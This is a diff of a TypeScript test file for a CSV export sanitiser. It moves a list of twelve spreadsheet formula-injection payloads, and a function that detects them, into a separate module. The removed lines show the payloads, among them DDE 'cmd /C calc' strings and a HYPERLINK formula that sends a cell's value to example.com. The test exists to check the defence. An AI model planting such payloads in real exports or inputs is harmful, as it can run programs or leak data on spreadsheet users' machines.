@@ -1,28 +1,8 @@
 import { expect, test } from "bun:test"
 import fc from "fast-check"
 import { csvRecord, defused } from "../../src/pages/csv.ts"
+import { formulas, HOSTILE } from "./hostile.ts"
 import { readCsv } from "./read-csv.ts"
-
-/** What somebody may call an app, or write into a review, to have a spreadsheet run it. */
-const HOSTILE = [
-  "=1+1",
-  "+1+1",
-  "-2+3+cmd|' /C calc'!A0",
-  "@SUM(1,2)",
-  "\t=1+1",
-  "\r=1+1",
-  "\n=1+1",
-  '=HYPERLINK("https://example.com/?x="&A1,"click")',
-  '"=1+1"',
-  " \u200b=1+1",
-  "＝1+1",
-  'fine;=cmd|"/C calc"!A0\n@x\t+y',
-] as const
-
-/** Where a spreadsheet may begin a cell: at the start, and wherever it takes a character for a separator. */
-function formulas(text: string): string[] {
-  return text.split(/[;\t\r\n]/).filter((cell) => /^[\s"\u200b\u00ad]*[=+\-@＝＋－＠]/u.test(cell))
-}
 
 test("twelve hostile texts are no formula wherever a spreadsheet begins a cell, and lose nothing but an apostrophe", () => {
   expect(HOSTILE).toHaveLength(12)
